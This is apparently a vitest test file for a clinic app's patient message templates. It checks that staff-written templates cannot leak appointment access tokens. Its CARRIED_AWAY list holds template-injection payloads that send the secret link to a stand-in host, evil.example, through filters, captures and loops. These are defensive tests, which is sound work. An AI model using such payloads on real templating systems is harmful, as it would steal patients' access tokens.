import { beforeEach, describe, expect, test } from 'vitest'
import { messageEvents } from '#lib/contract/message-events.ts'
import type { Permission } from '#lib/contract/permissions.ts'
import { checkMessageTexts, defaultTexts } from '#server/messages/message-text.ts'
import { makeRecord } from '../admin/resource-samples.ts'
import { addAppointment, addPerson, addType } from '../clinic-factory.ts'
import { insertRow, newestAuditLine, rowsWhere } from '../rows.ts'
import { addStaffUser } from '../signed-in.ts'
import { runTestServer } from '../test-server.ts'
import { runMailbox, sendWaiting } from './mailbox.ts'

/* Messages in the words of the clinic (docs/decisions/0076). */

const server = await runTestServer()
const { db } = server.database
const { taken } = await runMailbox(server)
const start = new Date(Date.now() + 5 * 86_400_000)

beforeEach(async () => {
  await db.deleteFrom('message_template').execute()
})

async function bookFor(first_name: string, typeId?: number) {
  const patient = await addPerson(db, { first_name, email: `${first_name}@example.test` })
  const appointment_type_id = typeId ?? (await addType(db)).id
  return await addAppointment(db, { patient_id: patient.id, appointment_type_id, starts_at: start })
}
const booked = { name: 'Booked', event: 'booked' }

test('the words of the appointment type come before those for all, and empty ones are ready-made', async () => {
  const type = await addType(db)
  await insertRow(db, 'message_template', {
    ...booked,
    appointment_type_id: type.id,
    body: 'Hello {{ first_name }}, bring your passport.',
  })
  await insertRow(db, 'message_template', { ...booked, subject: 'Booked, {{ first_name }}' })
  await bookFor('Ada', type.id)
  await bookFor('Ben')
  await sendWaiting(server)
  const [own, other] = taken.toSorted((one, two) => ((one.text ?? '') > (two.text ?? '') ? -1 : 1))
  expect(own?.text).toMatch(/^Hello Ada, bring your passport\.\n/)
  expect(own?.subject).toMatch(/^Your appointment on /)
  expect(other?.subject).toBe('Booked, Ben')
  expect(other?.text).toMatch(/^Dear Ben,\n\nYour appointment is booked\./)
})

test('a message that is switched off for an appointment type is not sent, and the record says so', async () => {
  const type = await addType(db)
  const off = { ...booked, appointment_type_id: type.id, is_sent: false }
  await insertRow(db, 'message_template', off)
  const { id } = await bookFor('Ada', type.id)
  await bookFor('Ben')
  await sendWaiting(server)
  expect(taken).toHaveLength(1)
  expect(await rowsWhere(db, 'message', { appointment_id: id })).toMatchObject([
    { state: 'dropped', note: 'This message is switched off.' },
  ])
})

test('a template that fails for one person stops nobody else, and is not tried again', async () => {
  await insertRow(db, 'message_template', {
    ...booked,
    body: "{% if first_name == 'Ada' %}{{ no_such_name }}{% endif %}Hello",
  })
  const { id } = await bookFor('Ada')
  await bookFor('Ben')
  await sendWaiting(server)
  expect(taken.map(({ to }) => [to].flat()[0]?.text)).toEqual([
    expect.stringContaining('Ben@example.test'),
  ])
  const [failed] = await rowsWhere(db, 'message', { appointment_id: id })
  expect(failed).toMatchObject({ state: 'failed', attempts: 1 })
  expect(failed?.note).toMatch(/^The template of this message has a mistake: .*no_such_name/)
})

const CARRIED_AWAY = [
  'https://evil.example/?t={{ link }}',
  'https://evil.example/?t={{ book_link }}',
  'https://evil.example/?t={{ link | split: "#" | last }}',
  '{{ link | split: "=" | last }}',
  '{{ link | append: ".evil.example" }}',
  '{% assign t = link | split: "=" %}https://evil.example/?t={{ t | last }}',
  '{% assign t = link %}https://evil.example/?t={{ t }}',
  '{% capture t %} {{ link }} {% endcapture %}https://evil.example/?t={{ t | strip }}',
  '{% capture t %} {{ link }} {% endcapture %}{{ t | split: "=" | last }}',
  'https://evil.example/?t=({{ link }})',
  'https://evil.example/?t=\u00a0{{ link }}',
  '{% for part in link %}{{ part }}{% endfor %}',
  '{% cycle link %}',
  '{% if first_name == "Zoe" %}https://evil.example/?t={{ link }}{% endif %}',
  '{% if link contains "a" %}a{% endif %}',
  'a{{- link }}',
  '{{ sentence | append: link }}',
]

describe('what opens an appointment', () => {
  test('is the address alone where it ends a sentence', async () => {
    await insertRow(db, 'message_template', { ...booked, body: 'It is at {{ link }}. Thank you' })
    await bookFor('Ada')
    await sendWaiting(server)
    const { text, html } = taken[0] ?? {}
    const [, link] = /It is at (\S+)\. Thank you/.exec(text ?? '') ?? []
    expect(html).toContain(`<a href="${link}" `)
    expect(html).toContain(`>${link}</a>. Thank you`)
  })

  test('is not what somebody is called', async () => {
    await insertRow(db, 'message_template', {
      ...booked,
      subject: 'For {{ first_name }}',
      body: '{{ first_name }}',
    })
    const { id } = await addPerson(db, {
      first_name: '\uE000link\uE001',
      email: 'ada@example.test',
    })
    await addAppointment(db, { patient_id: id, starts_at: start })
    await sendWaiting(server)
    expect(taken).toMatchObject([{ subject: 'For link' }])
    expect(taken[0]?.text).not.toContain('#access=')
  })

  const isSaved = (body: string) =>
    checkMessageTexts({ subject: '', body }).then(
      () => true,
      () => false,
    )

  test.each(CARRIED_AWAY)('goes nowhere else by %s', async (body) => {
    const isReached = !body.includes('Zoe')
    if (isReached) expect(await isSaved(body)).toBe(false)
    // As if it had been saved before, or by another way.
    await insertRow(db, 'message_template', { ...booked, body })
    const { id } = await bookFor('Zoe')
    await sendWaiting(server)
    const [message] = await rowsWhere(db, 'message', { appointment_id: id })
    const carrying = taken[0]?.text?.match(/\S*access=\S*/g) ?? []
    const ownPage = /^http:\/\/localhost:4321\/appointments\/\d+#access=[\w-]{43}$/
    if (message?.state === 'sent')
      expect(carrying.filter((word) => !ownPage.test(word))).toEqual([])
    else expect(message?.note).toMatch(/^The template of this message has a mistake: /)
  })

  test('is not in a subject, which is stored', async () => {
    await expect(checkMessageTexts({ subject: 'See {{ link }}', body: '' })).rejects.toThrow()
  })

  test.each(['Open {{ link }}', 'Open\n{{ link }}.\nOr {{book_link}}, thank you', '{{- link -}}'])(
    'is printed whole by %s',
    async (body) => expect(await isSaved(body)).toBe(true),
  )

  test('the mistake is named by line', async () => {
    const check = checkMessageTexts({ subject: '', body: 'Dear\n{{ link | upcase }}' })
    await expect(check).rejects.toThrow(
      expect.objectContaining({
        fields: {
          body: ['Line 2: {{ link }} can only be printed as it is, without a filter or a tag.'],
        },
      }),
    )
  })
})

test('what comes with the product is in order by the same rules', async () => {
  for (const event of messageEvents) {
    await expect(checkMessageTexts(defaultTexts[event]), event).resolves.toBeUndefined()
  }
})

describe('for those who write them', () => {
  const writer = (...more: Permission[]) =>
    addStaffUser(server, [
      'clinic.change_messagetemplate',
      'clinic.view_messagetemplate',
      'clinic.view_appointment',
      ...more,
    ])

  test('mistakes are named by field and line, and nothing is saved', async () => {
    const made = await makeRecord(server, 'messagetemplates')
    const { ask } = await writer()
    const { name, event, appointment_type_id } = made
    const answer = await ask('PUT', `/api/admin/messagetemplates/${made.id}/`, {
      ...{ name, event, appointment_type_id, revision: 1 },
      subject: '{{ patient.nhs_number }}',
      body: 'Dear\n{% if sentence %}',
    })
    expect(answer.status).toBe(400)
    expect(answer.body).toEqual({
      subject: ['Line 1: there is no name “patient.nhs_number”.'],
      body: ['Line 2: tag {% if sentence %} not closed.'],
    })
  })

  test('a preview names addresses that lead elsewhere', async () => {
    const { id } = await bookFor('Ada')
    const { ask } = await writer('clinic.view_other_appointments')
    const answer = await ask('POST', '/api/admin/messagetemplates/preview/', {
      event: 'booked',
      subject: 'See www.evil.example',
      body: 'https://forms.example/a and {{ link }}. Ask post@clinic.example, e.g. today.',
      appointment_id: id,
    })
    expect(answer.body['other_addresses']).toEqual(['www.evil.example', 'forms.example'])
  })

  test('a preview of an offer says until when, and leads to the waiting list', async () => {
    const { id } = await bookFor('Ada')
    const { ask } = await writer('clinic.view_other_appointments')
    const answer = await ask('POST', '/api/admin/messagetemplates/preview/', {
      event: 'offer',
      subject: '',
      body: '',
      appointment_id: id,
    })
    expect(answer.body['text']).toMatch(/alone until \d.*m on \w+/)
    expect(answer.body['text']).toContain('/waiting-list\n')
  })

  test('a preview has the details of the appointment, opens nothing, and is in the audit trail', async () => {
    const { id, patient_id } = await bookFor('Ada')
    const { ask } = await writer('clinic.view_other_appointments')
    const answer = await ask('POST', '/api/admin/messagetemplates/preview/', {
      event: 'booked',
      subject: 'For {{ first_name }}',
      body: '<b> {{ link }}',
      appointment_id: id,
    })
    expect(answer.body).toMatchObject({ subject: 'For Ada' })
    expect(answer.body['text']).toContain(`/appointments/${id}`)
    expect(answer.text).not.toContain('access=')
    expect(answer.body['html']).toContain('&lt;b&gt;')
    expect(await rowsWhere(db, 'appointment_access', { appointment_id: id })).toEqual([])
    const about = { subject_type: 'appointment', subject_id: id }
    expect(await newestAuditLine(db, ['action', 'patient_id'], about)).toEqual({
      action: 'message.previewed',
      patient_id,
    })
  })
})
